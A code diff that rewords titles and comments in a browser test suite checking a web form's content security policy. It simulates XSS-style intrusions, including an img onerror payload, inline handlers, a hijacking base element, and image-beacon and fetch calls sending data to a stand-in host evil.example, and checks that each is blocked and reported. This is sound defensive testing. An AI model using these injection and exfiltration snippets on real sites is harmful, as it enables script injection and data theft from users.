@@ -1,14 +1,14 @@
-// The security policy in a real browser: what it stops, that the page knows of nothing it stops (every other journey is
-// watched for that, `setup/test.ts`), and that nobody else may frame it.
+// The content security policy in a real browser: it blocks injected content and foreign frames, and the server receives
+// the reports. Every other browser test fails on a violation (`setup/test.ts`).
 import { openAt } from './driver/visits.ts'
 import { unique } from './personas/persona.ts'
 import { anna } from './personas/poland.ts'
 import { test } from './setup/embedding.ts'
 import { expect } from './setup/test.ts'
 
-/** What something foreign that got into the page would try; a title tells where it succeeds. */
+/** Attempts of injected code. An attempt that succeeds sets the title of the document. */
 const intrusions: Readonly<Record<string, () => void>> = {
-  'a script of its own words': () => {
+  'an inline script': () => {
     const script = document.createElement('script')
     script.text = 'document.title = "taken"'
     document.head.append(script)
@@ -23,30 +23,30 @@ const intrusions: Readonly<Record<string, () => void>> = {
     Reflect.set(place, 'innerHTML', '<img src=x onerror="document.title = `taken`">')
     document.body.append(place)
   },
-  'a handler in markup': () => {
+  'an inline event handler': () => {
     const button = document.createElement('button')
     button.setAttribute('onclick', 'document.title = "taken"')
     document.body.append(button)
     button.click()
   },
-  'a base for every address': () => {
+  'a base element': () => {
     const base = document.createElement('base')
     base.href = 'https://evil.example/'
     document.head.prepend(base)
     if (document.baseURI.includes('evil')) document.title = 'taken'
   },
-  'a style of its own': () => {
+  'an inline style': () => {
     const style = document.createElement('style')
     style.textContent = 'body { display: none }'
     document.head.append(style)
     if (getComputedStyle(document.body).display === 'none') document.title = 'taken'
   },
-  'a picture that tells': () => {
+  'a picture that sends data': () => {
     new Image().src = `https://evil.example/?told=${document.title}`
   },
   'a call elsewhere': () =>
     void fetch('https://evil.example/', { method: 'POST', body: 'told' }).catch(() => undefined),
-  'a frame of somebody else': () => {
+  'a foreign frame': () => {
     const frame = document.createElement('iframe')
     frame.src = 'https://evil.example/'
     document.body.append(frame)
@@ -54,7 +54,7 @@ const intrusions: Readonly<Record<string, () => void>> = {
 }
 
 for (const [name, intrude] of Object.entries(intrusions)) {
-  test(`${name} comes to nothing, and is told`, async ({ page, tukan, watched }) => {
+  test(`the policy blocks and reports ${name}`, async ({ page, tukan, watched }) => {
     await page.goto(tukan.url)
     await page.locator('dialog:modal').waitFor()
     expect(watched.violations).toEqual([])
@@ -63,7 +63,7 @@ for (const [name, intrude] of Object.entries(intrusions)) {
       arrived.push(route.request().url())
       return route.abort()
     })
-    // Throws where Trusted Types stop it on the spot.
+    // Throws where Trusted Types block the call.
     await page.evaluate(intrude).catch(() => undefined)
     await expect.poll(() => watched.violations.length).toBeGreaterThan(0)
     await expect(page).not.toHaveTitle('taken')
@@ -73,7 +73,7 @@ for (const [name, intrude] of Object.entries(intrusions)) {
   })
 }
 
-test('what happens in a context that a test opens itself is told too', async ({ browser, tukan, watched }) => {
+test('violations and errors in a context that a test opens are recorded too', async ({ browser, tukan, watched }) => {
   const other = await browser.newContext()
   const page = await other.newPage()
   await page.goto(tukan.url)
@@ -91,7 +91,7 @@ test('what happens in a context that a test opens itself is told too', async ({ 
   watched.errors.length = 0
 })
 
-test('violations are sent to the server', async ({ page, tukan, watched }) => {
+test('the browser sends violations to the server', async ({ page, tukan, watched }) => {
   await page.goto(tukan.url)
   const reported = await page.evaluate(async () => {
     const seen = new Promise<string>((resolve) => {
@@ -109,7 +109,7 @@ test('violations are sent to the server', async ({ page, tukan, watched }) => {
   watched.violations.length = 0
 })
 
-test('pictures of the page itself and what an applicant opens break no rule', async ({ page, tukan }) => {
+test('the form, its documents and the server’s own pages violate no policy', async ({ page, tukan }) => {
   await openAt(page, tukan, unique(anna), 'employer-name')
   await page.goto(`${tukan.url}terms`)
   await page.goto(`${tukan.origin}/docs`)
@@ -117,7 +117,7 @@ test('pictures of the page itself and what an applicant opens break no rule', as
   await expect(page.locator('h1')).toHaveCSS('font-size', '28px')
 })
 
-test('a page of somebody else cannot frame the form: not where nobody may, not where others may', async ({
+test('a foreign page cannot frame the form, also where another host may', async ({
   page,
   tukan,
   embeddingOf,
@@ -130,7 +130,7 @@ test('a page of somebody else cannot frame the form: not where nobody may, not w
   await expect(page.frameLocator('iframe').locator('form')).toHaveCount(0)
   watched.violations.length = 0
 
-  // The host is known to one product's server, not to the other's.
+  // The host may embed the form of one server, not of the other.
   await page.goto(`${host}/`)
   await page.frameLocator('iframe').locator('form[data-page]').waitFor()
   expect(watched.violations).toEqual([])
